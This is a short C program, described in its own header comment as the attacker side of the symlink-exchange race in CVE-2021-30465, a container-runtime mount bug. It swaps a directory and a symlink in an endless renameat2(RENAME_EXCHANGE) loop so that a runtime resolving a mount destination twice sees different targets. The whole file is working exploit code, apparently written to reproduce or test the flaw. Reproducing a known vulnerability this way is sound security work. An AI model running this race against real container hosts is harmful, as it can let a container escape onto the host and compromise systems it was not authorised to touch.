/*
 * The attacker of the symlink-exchange race (CVE-2021-30465): swaps two names in a
 * loop with renameat2(RENAME_EXCHANGE), a directory and a symlink, so a runtime that
 * resolves a mount destination twice sees one, then the other.
 *
 *   exchange A B   (runs until killed)
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/fs.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 3)
		return 2;
	for (;;)
		syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
}
